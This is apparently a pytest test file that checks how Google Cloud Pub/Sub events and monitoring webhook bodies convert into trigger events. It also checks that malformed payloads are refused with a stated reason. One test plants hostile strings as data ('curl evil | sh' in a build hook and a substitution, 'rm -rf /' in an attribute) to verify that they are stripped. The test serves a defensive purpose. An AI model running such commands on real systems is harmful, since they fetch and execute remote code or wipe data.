"""Real Google Cloud event payloads (tests/events/gcp: Pub/Sub messagePublished CloudEvents as
functions-framework delivers them) convert to the golden trigger events beside them, and
anything else is refused with a clear reason."""

from __future__ import annotations

import base64
import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from quiesce.triggers.convert import UnsupportedEvent
from quiesce_gcp.triggers import convert, convert_webhook

from . import pubsub

EVENTS = Path(__file__).resolve().parents[1] / "events" / "gcp"
FIXTURES = sorted(p.name for p in EVENTS.glob("*.json"))


def load(name: str) -> Any:
    return json.loads((EVENTS / name).read_text())


def body(event: dict[str, Any]) -> Any:
    return json.loads(base64.b64decode(event["data"]["message"]["data"]))


def set_body(event: dict[str, Any], value: Any) -> None:
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    event["data"]["message"]["data"] = base64.b64encode(raw).decode()


@pytest.mark.parametrize("name", FIXTURES)
def test_each_real_event_converts_to_its_golden_trigger_event(name: str) -> None:
    converted = [e.model_dump(mode="json") for e in convert(load(name))]
    assert converted == load(f"expected/{name}")


def test_every_supported_shape_has_a_fixture() -> None:
    assert len(FIXTURES) == 6
    assert sorted(p.name for p in (EVENTS / "expected").glob("*.json")) == FIXTURES


def test_a_schedule_names_its_trigger_and_the_message_id_is_the_event_id() -> None:
    (event,) = convert(load("scheduler.json"))
    assert (event.kind, event.trigger, event.id) == ("schedule", "nightly", "12960537433651735")


def test_a_schedule_may_name_its_trigger_in_an_attribute() -> None:
    payload = load("scheduler.json")
    del payload["data"]["message"]["data"]
    payload["data"]["message"]["attributes"] = {"trigger": "hourly"}
    (event,) = convert(payload)
    assert event.trigger == "hourly"


def test_deploy_and_alert_attributes_are_the_ones_policies_match_on() -> None:
    (build,) = convert(load("cloud_build.json"))
    assert {k: build.attributes[k] for k in ("provider", "trigger", "application", "state")} == {
        "provider": "cloudbuild",
        "trigger": "orders-deploy",
        "application": "orders-app",
        "state": "WORKING",
    }
    (deploy,) = convert(load("cloud_deploy_operation.json"))
    assert {k: deploy.attributes[k] for k in ("provider", "pipeline", "target", "state")} == {
        "provider": "clouddeploy",
        "pipeline": "orders-pipeline",
        "target": "prod",
        "state": "Start",
    }
    (alert,) = convert(load("monitoring_incident_open.json"))
    assert {k: alert.attributes[k] for k in ("provider", "alarm", "state", "severity")} == {
        "provider": "cloud-monitoring",
        "alarm": "orders-db-disk-full",
        "state": "open",
        "severity": "Critical",
    }


def test_extra_fields_in_a_payload_never_reach_the_trigger_event() -> None:
    payload = load("cloud_build.json")
    build = body(payload)
    build["hooks"] = {"pre": {"run": ["/bin/sh", "-c", "curl evil | sh"]}}
    build["substitutions"]["_HOOK"] = "curl evil | sh"
    set_body(payload, build)
    payload["data"]["message"]["attributes"]["command"] = "rm -rf /"
    (event,) = convert(payload)
    text = json.dumps(event.model_dump(mode="json"))
    assert "evil" not in text
    assert "rm -rf" not in text


def _mutate_body(key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def mutate(event: dict[str, Any]) -> None:
        data = body(event)
        data[key] = value
        set_body(event, data)

    return mutate


@pytest.mark.parametrize(
    ("name", "mutate", "message"),
    [
        (
            "scheduler.json",
            lambda e: e.update({"type": "google.cloud.storage.object.v1.finalized"}),
            "expected a google.cloud.pubsub.topic.v1.messagePublished CloudEvent",
        ),
        ("scheduler.json", lambda e: e.pop("data"), "carries no Pub/Sub message"),
        (
            "scheduler.json",
            lambda e: (
                [e["data"]["message"].pop(k) for k in ("messageId", "message_id")] + [e.pop("id")]
            ),
            "has no messageId",
        ),
        (
            "scheduler.json",
            lambda e: e["data"]["message"].update({"data": "not base64!"}),
            "not base64",
        ),
        ("scheduler.json", _mutate_body("trigger", 42), "names no trigger"),
        (
            "scheduler.json",
            lambda e: [e["data"]["message"].update({k: "yesterday"}) for k in ("publishTime",)],
            "not a timestamp",
        ),
        ("monitoring_incident_open.json", _mutate_body("incident", "x"), "neither a schedule"),
        (
            "monitoring_incident_open.json",
            _mutate_body("incident", {"state": "open"}),
            "names no alert policy",
        ),
        (
            "monitoring_incident_open.json",
            _mutate_body("incident", {"policy_name": "p", "started_at": "noon"}),
            "not a timestamp",
        ),
        (
            "cloud_build.json",
            lambda e: set_body(e, b"[1, 2]"),
            "carries no build",
        ),
    ],
)
def test_an_unsupported_or_malformed_event_is_refused_with_the_reason(
    name: str, mutate: Callable[[dict[str, Any]], Any], message: str
) -> None:
    payload = copy.deepcopy(load(name))
    mutate(payload)
    with pytest.raises(UnsupportedEvent, match=message):
        convert(payload)


def test_a_message_of_no_known_shape_is_refused() -> None:
    payload = load("scheduler.json")
    set_body(payload, {"hello": "world"})
    with pytest.raises(UnsupportedEvent, match="neither a schedule"):
        convert(payload)


def test_a_payload_that_is_not_an_object_is_refused() -> None:
    with pytest.raises(UnsupportedEvent, match="not a JSON object"):
        convert(["run", "/bin/sh"])


# ------------------------------------------------------------------------------ documented payloads


def test_the_pubsub_cloudevent_sample_without_a_message_id_takes_the_cloudevents_id() -> None:
    """functions-framework's own messagePublished sample names the message only in the
    CloudEvent's id (Eventarc sets both to the messageId)."""
    sample = pubsub.payload("pubsub_cloudevent.json")
    sample["data"]["message"]["data"] = base64.b64encode(b'{"trigger": "nightly"}').decode()
    (event,) = convert(sample)
    assert (event.kind, event.trigger, event.id) == (
        "schedule",
        "nightly",
        "aaaaaa-1111-bbbb-2222-cccccccccccc",
    )
    assert event.attributes == {"topic": "gcf-test"}


@pytest.mark.parametrize(("state", "condition"), [("open", "firing"), ("closed", "resolved")])
def test_a_monitoring_incident_says_whether_its_condition_fires_or_recovered(
    state: str, condition: str
) -> None:
    (event,) = convert(pubsub.incident(state))
    assert event.kind == "alert"
    assert {k: event.attributes[k] for k in ("alarm", "state", "condition", "condition_name")} == {
        "alarm": "Monitor-Project-Cluster",
        "state": state,
        "condition": condition,
        "condition_name": "VM Instance - CPU utilization [MAX]",
    }
    assert event.attributes["channel"] == "pubsub"
    assert event.attributes["severity"] == "no severity"
    # an open incident is dated by its start, a closed one by its end
    expected = 1577840461 if state == "open" else 1577877071
    assert event.time.timestamp() == expected


def test_an_incident_in_another_state_is_neither_firing_nor_resolved() -> None:
    incident = pubsub.payload("monitoring_incident_1_2_open.json")
    incident["incident"]["state"] = "acknowledged"
    (event,) = convert(pubsub.message_published("quiesce-alerts", data=incident))
    assert (event.attributes["state"], event.attributes["condition"]) == (
        "acknowledged",
        "other",
    )


@pytest.mark.parametrize("action", ["required", "approved"])
def test_a_cloud_deploy_approval_without_resource_type_converts(action: str) -> None:
    """clouddeploy-approvals messages carry no ResourceType; pipeline, release and rollout
    come from their own attributes or the rollout's full name."""
    payload = pubsub.clouddeploy(f"approvals_{action}")
    assert "ResourceType" not in payload["data"]["message"]["attributes"]
    (event,) = convert(payload)
    assert event.kind == "deploy"
    assert event.attributes == {
        "provider": "clouddeploy",
        "pipeline": "orders-pipeline",
        "application": "orders-pipeline",
        "target": "prod",
        "rollout": "rel-42-to-prod-0001",
        "release": "rel-42",
        "state": action.capitalize(),
        "notification": "approval",
        "resource_type": "Rollout",
        "resource": "projects/123456789012/locations/europe-west1/deliveryPipelines/"
        "orders-pipeline/releases/rel-42/rollouts/rel-42-to-prod-0001",
        "location": "europe-west1",
        "topic": "clouddeploy-approvals",
    }


def test_a_cloud_deploy_approval_is_recognized_without_its_topic_name() -> None:
    payload = pubsub.clouddeploy("approvals_approved")
    payload["source"] = "//pubsub.googleapis.com/projects/p/topics/deploy-approvals-copy"
    (event,) = convert(payload)
    assert (event.attributes["state"], event.attributes["notification"]) == (
        "Approved",
        "approval",
    )


def test_a_rejected_rollout_fires_nothing_and_says_why() -> None:
    with pytest.raises(UnsupportedEvent, match=r"'Rejected' fires no trigger.*deploys nothing"):
        convert(pubsub.clouddeploy("approvals_rejected"))


def test_a_cloud_deploy_operation_is_an_operation() -> None:
    (event,) = convert(pubsub.clouddeploy("operations_start"))
    assert {k: event.attributes[k] for k in ("pipeline", "state", "notification")} == {
        "pipeline": "orders-pipeline",
        "state": "Start",
        "notification": "operation",
    }


def test_a_documented_build_resource_converts_with_the_messages_attributes() -> None:
    payload = pubsub.message_published(
        "cloud-builds",
        data=pubsub.payload("cloud_build_event_data.json"),
        attributes={"buildId": "8f1c1a77-0b5e-4c1e-9d35-2d0b5d6f3e21", "status": "SUCCESS"},
    )
    (event,) = convert(payload)
    assert {k: event.attributes[k] for k in ("provider", "build_id", "state")} == {
        "provider": "cloudbuild",
        "build_id": "8f1c1a77-0b5e-4c1e-9d35-2d0b5d6f3e21",
        "state": "SUCCESS",
    }


# ------------------------------------------------------------------------------ webhook bodies


def test_a_webhook_incident_converts_with_its_id_and_state_as_the_event_id() -> None:
    raw = (pubsub.PAYLOADS / "monitoring_incident_1_2_open.json").read_bytes()
    (event,) = convert_webhook(raw)
    assert event.id == "0.opqiw61fsv7p:open"
    assert event.source == "gcp.monitoring"
    assert (event.attributes["condition"], event.attributes["channel"]) == ("firing", "webhook")
    (closed,) = convert_webhook(pubsub.payload("monitoring_incident_1_2_closed.json"))
    assert closed.id == "0.opqiw61fsv7p:closed"
    assert closed.attributes["condition"] == "resolved"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"<html>", "the body is not JSON"),
        (b"[1, 2]", "not a JSON object"),
        (b'{"version": "1.2"}', "no `incident` object"),
        (b'{"incident": {"policy_name": "p", "state": "open"}}', "has no incident_id"),
        (b'{"incident": {"incident_id": "0.x", "state": "open"}}', "names no alert policy"),
        (
            b'{"incident": {"incident_id": "0.x", "policy_name": "p", "started_at": "noon"}}',
            "not a timestamp",
        ),
    ],
)
def test_a_malformed_webhook_body_is_refused_with_the_reason(body: bytes, reason: str) -> None:
    with pytest.raises(UnsupportedEvent, match=reason):
        convert_webhook(body)
